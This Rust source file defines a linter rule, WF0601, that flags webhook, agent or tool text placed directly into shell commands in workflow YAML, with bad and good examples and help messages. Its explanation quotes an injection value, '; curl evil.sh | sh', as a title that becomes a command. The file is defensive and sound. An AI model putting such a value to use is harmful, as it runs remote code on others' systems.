//! Text from outside in a shell command.

use wfc_syntax::ast::Step;
use wfc_syntax::code::{Code, Example, Severity};
use wfc_syntax::diagnostic::Diagnostic;
use wfc_syntax::expr::ExprId;

use super::env_fix;
use super::label::{Origin, Outside};
use crate::rules::RuleContext;

/// Text from outside in a shell command.
pub static CODE: Code = Code {
    id: "WF0601",
    name: "outside-text-in-command",
    severity: Severity::Error,
    summary: "text from a webhook, an agent or an open-world tool becomes part of a shell command",
    why: "The shell runs whatever the text says: `; curl evil.sh | sh` in an issue's title is a command then. Passed through `env` and \
          written as `\"$TITLE\"`, it stays text whatever it holds. Numbers, booleans and words of a closed list may be part of a command, \
          and so may text that was held against a pattern with `matches`.",
    bad: Example::yaml(
        "steps:\n  - id: title\n    type: agent\n    goal: Find a title for the release\n    timeout: 5m\n  - type: bash\n    command: ./publish.sh {{ title }}\n",
    ),
    good: Example::yaml(
        "steps:\n  - id: title\n    type: agent\n    goal: Find a title for the release\n    timeout: 5m\n  - type: bash\n    command: ./publish.sh \"$TITLE\"\n    env: { TITLE: \"{{ title }}\" }\n",
    ),
};

/// `part` of the command comes from `origin`.
pub(super) fn report(
    cx: &RuleContext<'_>,
    step: &Step,
    command: ExprId,
    part: ExprId,
    origin: &Origin,
) -> Diagnostic {
    let what = match origin.source {
        Outside::Agent => "an agent's answer",
        Outside::OpenTool => "text from an open-world tool",
        _ => "text from a webhook",
    };
    diagnostic(cx, step, command, part, origin, (&CODE, what))
}

/// The finding of either code.
pub(super) fn diagnostic(
    cx: &RuleContext<'_>,
    step: &Step,
    command: ExprId,
    part: ExprId,
    origin: &Origin,
    (code, what): (&'static Code, &str),
) -> Diagnostic {
    let span = cx.ast.exprs.span(part);
    if part == command {
        return Diagnostic::new(code, span, format!("{what} is run as a shell command"))
            .label(origin.span, label(&origin.source))
            .help("write the command here and pass what varies through `env`, or choose between commands with a `switch`");
    }
    let name = env_fix::variable(cx, part);
    let mut report = Diagnostic::new(
        code,
        span,
        format!("{what} becomes part of a shell command"),
    );
    if !span.overlaps(origin.span) {
        report = report.label(origin.span, label(&origin.source));
    }
    report = report.help(format!(
        "pass it through `env` as `{name}`, and write `\"${name}\"` in the command: the shell does not run what a variable holds"
    ));
    match env_fix::fix(cx, step, command, part) {
        Some(fix) => report.fix(fix),
        None => report,
    }
}

fn label(source: &Outside) -> String {
    match source {
        Outside::Webhook => "whoever calls the webhook writes it".to_owned(),
        Outside::Agent => "this agent writes it".to_owned(),
        Outside::OpenTool => "this tool takes it from an open world".to_owned(),
        Outside::Input(name) => format!("a webhook's data goes to the input `{name}` here"),
        Outside::Tool => "this tool yields it".to_owned(),
        Outside::Command => "this command prints it".to_owned(),
    }
}
